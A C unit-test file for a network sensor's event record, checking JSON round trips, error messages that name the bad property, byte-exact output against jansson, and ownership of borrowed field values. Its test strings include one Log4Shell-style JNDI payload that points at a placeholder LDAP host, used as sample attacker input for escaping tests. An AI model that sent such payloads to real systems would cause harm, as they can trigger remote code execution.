/* The event record's JSON wire form: what is written reads back the same,
 * and bad input names the property. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "sensor/event.h"

static json_t *round_trip(const char *text, tr_event *back)
{
    json_error_t je;
    json_t *j = json_loads(text, 0, &je);
    assert_non_null(j);
    tr_event e;
    tr_error err;
    if (tr_event_from_json(j, &e, &err) != 0) {
        printf("refused: %s\n", err.msg);
        fail();
    }
    json_decref(j);
    json_t *out = tr_event_to_json(&e);
    assert_int_equal(tr_event_from_json(out, back, &err), 0);
    tr_event_clear(&e);
    return out;
}

static void test_round_trip(void **state)
{
    (void)state;
    tr_event e;
    json_t *out = round_trip(
        "{\"time\": \"2026-11-28T18:00:00.123456Z\", \"sensor\": \"s1\", \"src_ip\": \"203.0.113.9\","
        " \"src_port\": 4000, \"dst_ip\": \"198.51.100.1\", \"dst_port\": 80, \"transport\": \"tcp\","
        " \"proto\": \"http\", \"ip_id\": 54321, \"tcp_seq\": 4294967295, \"payload_b64\": \"R0VUIC8=\","
        " \"fields\": {\"http_path\": \"/\"}}",
        &e);
    assert_string_equal(json_string_value(json_object_get(out, "time")),
                        "2026-11-28T18:00:00.123456Z");
    assert_int_equal(e.payload_len, 5);
    assert_memory_equal(e.payload, "GET /", 5);
    assert_int_equal(e.ip_id, 54321);
    assert_int_equal(e.tcp_seq, 4294967295LL);
    assert_int_equal(e.ttl, -1);
    assert_string_equal(tr_event_get(&e, "http_path"), "/");
    json_decref(out);
    tr_event_clear(&e);
}

static void test_early_years_keep_four_digits(void **state)
{
    (void)state;
    tr_event e;
    json_t *out = round_trip("{\"time\": \"0999-01-02T03:04:05Z\", \"src_ip\": \"::1\","
                             " \"dst_ip\": \"::2\", \"transport\": \"udp\"}",
                             &e);
    assert_string_equal(json_string_value(json_object_get(out, "time")),
                        "0999-01-02T03:04:05.000000Z");
    assert_int_equal(e.family, 6);
    json_decref(out);
    tr_event_clear(&e);
}

static void test_bad_input_names_the_property(void **state)
{
    (void)state;
    static const struct {
        const char *json, *want;
    } bad[] = {
        {"{\"time\": \"yesterday\", \"src_ip\": \"1.2.3.4\", \"dst_ip\": \"1.2.3.5\", \"transport\": \"tcp\"}", "'time'"},
        {"{\"time\": \"2026-01-01T00:00:00Z\", \"src_ip\": \"1.2.3\", \"dst_ip\": \"1.2.3.5\", \"transport\": \"tcp\"}", "'src_ip'"},
        {"{\"time\": \"2026-01-01T00:00:00Z\", \"src_ip\": \"1.2.3.4\", \"dst_ip\": \"::1\", \"transport\": \"tcp\"}", "families"},
        {"{\"time\": \"2026-01-01T00:00:00Z\", \"src_ip\": \"1.2.3.4\", \"dst_ip\": \"1.2.3.5\", \"transport\": \"tcp\", \"dst_port\": 70000}", "'dst_port'"},
        {"{\"time\": \"2026-01-01T00:00:00Z\", \"src_ip\": \"1.2.3.4\", \"dst_ip\": \"1.2.3.5\", \"transport\": \"tcp\", \"payload_b64\": \"***\"}", "'payload_b64'"},
        {"{\"time\": \"2026-01-01T00:00:00Z\", \"src_ip\": \"1.2.3.4\", \"dst_ip\": \"1.2.3.5\", \"transport\": \"tcp\", \"fields\": {\"a\": 1}}", "field 'a'"},
    };
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        json_t *j = json_loads(bad[i].json, 0, NULL);
        assert_non_null(j);
        tr_event e;
        tr_error err;
        assert_int_equal(tr_event_from_json(j, &e, &err), -1);
        if (!strstr(err.msg, bad[i].want))
            printf("%s: %s\n", bad[i].want, err.msg);
        assert_non_null(strstr(err.msg, bad[i].want));
        json_decref(j);
    }
}

/* The sensor's JSON line must be byte for byte what jansson writes, for
 * plain events and for every kind of string the fast path hands back. */
static void expect_same_json(const tr_event *e)
{
    json_t *j = tr_event_to_json(e);
    char *want = json_dumps(j, JSON_COMPACT);
    json_decref(j);
    assert_non_null(want);
    tr_buf got = {0};
    tr_buf_append(&got, "", 0);
    tr_event_json_line(e, &got);
    tr_buf_append(&got, "", 1);
    assert_string_equal(got.data, want);
    free(want);
    tr_buf_free(&got);
}

static void test_json_line_matches_jansson(void **state)
{
    (void)state;
    static const char *values[] = {
        "GET", "", "a \"quoted\" value", "back\\slash\\", "/path/with/slashes?x=1&y=2",
        "tab\there", "nl\nthere", "\x01ctl", "caf\xc3\xa9", "\xff\xfe bad utf-8",
        "${jndi:ldap://198.51.100.7/a}", "del\x7f", "~!@#$%^&*()_+{}|:<>?`-=[];',.",
    };
    size_t nv = sizeof values / sizeof values[0];
    uint64_t r = 88172645463325252ull;
    for (int round = 0; round < 400; round++) {
        tr_event e;
        tr_event_init(&e);
        r ^= r << 13, r ^= r >> 7, r ^= r << 17;
        e.time_us = (int64_t)(r % 4000000000000000ull);
        snprintf(e.sensor, sizeof e.sensor, "%s", round % 7 ? "sensor-1" : values[r % nv]);
        e.family = round % 3 ? 4 : 6;
        for (int i = 0; i < 16; i++)
            e.src_ip[i] = (uint8_t)(r >> (i % 8) * 8), e.dst_ip[i] = (uint8_t)(i * 17 + round);
        if (e.family == 4)
            memset(e.src_ip + 4, 0, 12), memset(e.dst_ip + 4, 0, 12);
        e.src_port = (uint16_t)r;
        e.dst_port = (uint16_t)(r >> 16);
        strcpy(e.transport, round % 2 ? "tcp" : "udp");
        strcpy(e.proto, round % 5 ? "http" : "raw");
        if (round % 4 == 0) {
            e.ip_id = (int32_t)(r & 0xffff);
            e.ttl = 64;
            e.tcp_window = 1024;
            e.tcp_flags = 2;
            e.tcp_seq = (int64_t)(r >> 32);
            strcpy(e.tcp_options, "2,4,8,1,3");
        }
        e.handshake = round % 3 != 0;
        e.packets = (unsigned)(1 + round % 9);
        if (round % 2) {
            uint8_t p[300];
            for (size_t i = 0; i < sizeof p; i++)
                p[i] = (uint8_t)(i * 31 + round);
            tr_event_set_payload(&e, p, (size_t)round % sizeof p);
        }
        for (size_t f = 0; f < (size_t)round % 6; f++) {
            char key[32];
            if (f == 3 && round % 11 == 0)
                snprintf(key, sizeof key, "k\"ey");
            else
                snprintf(key, sizeof key, "field_%zu", f);
            tr_event_set(&e, key, values[(r >> (f * 5)) % nv]);
        }
        if (round % 13 == 0 && e.nfields >= 2) {
            /* Same key twice, as JSON input might carry: jansson keeps the last. */
            free(e.fields[1].key);
            e.fields[1].key = strdup(e.fields[0].key);
        }
        expect_same_json(&e);
        tr_event_clear(&e);
    }
}

/* A static field value is borrowed: never copied or freed, and replacing it
 * with an owned value (or the reverse) frees exactly what was owned. ASan's
 * leak and double-free checks are the other half of this test. */
static void test_static_fields_are_borrowed(void **state)
{
    static const char zmap[] = "zmap";
    tr_event e;
    tr_event_init(&e);
    assert_int_equal(tr_event_set_static(&e, "scanner", zmap), 0);
    assert_ptr_equal(tr_event_get(&e, "scanner"), zmap);
    assert_int_equal(tr_event_set(&e, "http_path", "/"), 0);
    /* Owned over borrowed: a copy, the literal untouched. */
    char v[] = "masscan";
    assert_int_equal(tr_event_set(&e, "scanner", v), 0);
    v[0] = 'X';
    assert_string_equal(tr_event_get(&e, "scanner"), "masscan");
    /* Borrowed over owned: the copy freed (else a leak), the literal kept. */
    assert_int_equal(tr_event_set_static(&e, "scanner", zmap), 0);
    assert_ptr_equal(tr_event_get(&e, "scanner"), zmap);
    assert_int_equal(e.nfields, 2);
    tr_buf b = {0};
    tr_event_json_line(&e, &b);
    assert_non_null(strstr(b.data, "\"fields\":{\"scanner\":\"zmap\",\"http_path\":\"/\"}"));
    tr_buf_free(&b);
    /* A copy whose fields are added again (as the noise batch does) owns them. */
    tr_event c = e;
    c.nfields = 0;
    c.payload = NULL;
    for (size_t i = 0; i < e.nfields; i++)
        tr_event_set(&c, e.fields[i].key, e.fields[i].value);
    assert_ptr_not_equal(tr_event_get(&c, "scanner"), zmap);
    tr_event_clear(&c);
    tr_event_clear(&e);
    (void)state;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_round_trip),
        cmocka_unit_test(test_static_fields_are_borrowed),
        cmocka_unit_test(test_json_line_matches_jansson),
        cmocka_unit_test(test_early_years_keep_four_digits),
        cmocka_unit_test(test_bad_input_names_the_property),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
